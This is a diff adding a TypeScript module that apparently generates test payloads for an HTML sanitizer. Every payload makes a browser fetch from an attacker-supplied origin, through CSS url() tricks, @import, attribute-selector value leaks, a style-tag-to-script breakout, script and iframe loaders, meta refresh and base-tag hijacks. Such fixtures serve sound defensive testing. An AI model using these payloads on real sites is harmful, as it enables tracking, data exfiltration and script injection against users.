@@ -1,0 +1,117 @@
+/** What asks for something from elsewhere, or paints over us. `evil`: origin of the attacker. */
+
+const DECLARATIONS = [
+  'background:url(U)',
+  'background-image:image-set("U" 1x)',
+  'list-style:url("U")',
+  'cursor:url(U),auto',
+  'border-image:url(U) 1',
+  'mask-image:url(U)',
+  '-webkit-mask:url(U)',
+  'filter:url(U#x)',
+  'clip-path:url(U#x)',
+  'shape-outside:url(U)',
+  'content:url(U)',
+  'offset-path:url(U#x)',
+  'behavior:url(U)',
+  '-moz-binding:url(U#x)',
+  'width:expression(boom())',
+  'background:\\75\\72\\6c(U)',
+  'background:url(javascript:boom())',
+  'position:fixed;inset:0;z-index:9999',
+  'position:absolute;top:-99px;opacity:0',
+  'display:block!important;font-size:9999px',
+  '--x:url(U);background:var(--x)',
+  'src:url(U)',
+];
+const SHEETS = [
+  '@import "U";',
+  '@import url(U) screen;',
+  '@import\\20 "U";',
+  '@font-face{font-family:x;src:url(U)}p{font-family:x}',
+  'input[value^=a]{background:url(U)}',
+  'a:visited{background:url(U)}',
+  '@charset "utf-7";@namespace url(U);',
+  '@keyframes k{from{background:url(U)}}p{animation:k 1s}',
+  ':has(a[href*=x]){background:url(U)}',
+  '}</style><script>boom()</script><style>{',
+];
+const RELATIONS =
+  'stylesheet preload prefetch preconnect dns-prefetch modulepreload prerender icon manifest import alternate pingback next search expect compression-dictionary'.split(
+    ' ',
+  );
+const LOADERS = [
+  '<img srcset="U 1x, U 2x" sizes=1px>',
+  '<img src="http://daily.example/a.jpg" ping=U lowsrc=U dynsrc=U attributionsrc=U>',
+  '<picture><source srcset="U" type=image/webp><source srcset="U 2x"></picture>',
+  '<video poster=U src=U autoplay muted></video>',
+  '<video><source src=U><track default kind=captions src=U></video>',
+  '<audio src=U autoplay></audio>',
+  '<iframe src=U loading=eager></iframe>',
+  '<iframe srcdoc="<img src=U>"></iframe>',
+  '<object data=U type=image/png></object>',
+  '<object type=text/html data=U></object>',
+  '<embed src=U type=image/png>',
+  '<applet codebase=U code=x archive=U></applet>',
+  '<frameset><frame src=U></frameset>',
+  '<script src=U></script>',
+  '<script type=module src=U></script>',
+  '<script type=importmap>{"imports":{"x":"U"}}</script>',
+  '<script type=speculationrules>{"prefetch":[{"urls":["U"]}]}</script>',
+  '<svg><image href=U width=9 height=9 /></svg>',
+  '<svg><image xlink:href=U width=9 height=9 /></svg>',
+  '<svg><use href=U#x /></svg>',
+  '<svg><feImage href=U /></svg>',
+  '<svg><script href=U /></svg>',
+  '<svg><style>@import "U";</style></svg>',
+  '<svg><rect fill="url(U#x)" width=9 height=9 /></svg>',
+  '<input type=image src=U>',
+  '<body background=U>x',
+  '<table background=U><thead background=U><tr background=U><th background=U>x</th></tr></thead></table>',
+  '<meta http-equiv=refresh content="999;url=U">',
+  '<meta http-equiv=set-cookie content="a=b"><meta http-equiv=content-security-policy content="report-uri U">',
+  '<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=U>',
+  '<base href=U><img src=x.gif>',
+  '<base target=_top><a href=U>x</a>',
+  '<form action=U><button autofocus>x</button></form>',
+  '<a href=U ping=U download target=opener rel=opener referrerpolicy=unsafe-url attributionsrc=U>x</a>',
+  '<bgsound src=U>',
+  '<xml src=U id=x></xml>',
+  '<portal src=U></portal>',
+  '<fencedframe></fencedframe>',
+  '<html manifest=U>x',
+  '<?xml-stylesheet href="U"?>',
+  '<menuitem icon=U>x</menuitem>',
+  '<isindex action=U type=image src=U>',
+  '<model src=U></model>',
+  '<template shadowrootmode=open><img src=U></template>',
+  '<noscript><img src=U></noscript>',
+  '<dialog open><img src=x.gif onerror=boom()></dialog>',
+  '<div popover id=pp>x</div><button popovertarget=pp>x</button>',
+  '<p contenteditable autofocus tabindex=1 accesskey=s draggable=true>x</p>',
+];
+
+export function loadingPayloads(evil: string): string[] {
+  const styled = DECLARATIONS.flatMap((it) => [
+    `<p style="${it}">text</p>`,
+    `<div style='${it}'>text</div>`,
+    `<svg style="${it}"><rect style="${it}" width=9 height=9 /></svg>`,
+    `<style>*{${it}}</style>`,
+    `<style media=all>p::before{${it}}</style>`,
+    `<link rel=stylesheet href="data:text/css,*{${it.replaceAll('"', '')}}">`,
+  ]);
+  const sheets = SHEETS.flatMap((it) => [
+    `<style>${it}</style>`,
+    `<svg><style>${it}</style></svg>`,
+    `<noscript><style>${it}</style></noscript>`,
+    `<template><style>${it}</style></template>`,
+  ]);
+  const links = RELATIONS.flatMap((it) => [
+    `<link rel=${it} href=U>`,
+    `<link rel="${it}" href=U as=image crossorigin>`,
+    `<p><LINK REL='${it.toUpperCase()}' HREF=U></p>`,
+  ]);
+  return [...styled, ...sheets, ...links, ...LOADERS].map((it, n) =>
+    it.replace(/\bU\b/g, `${evil}/load-${n}`),
+  );
+}
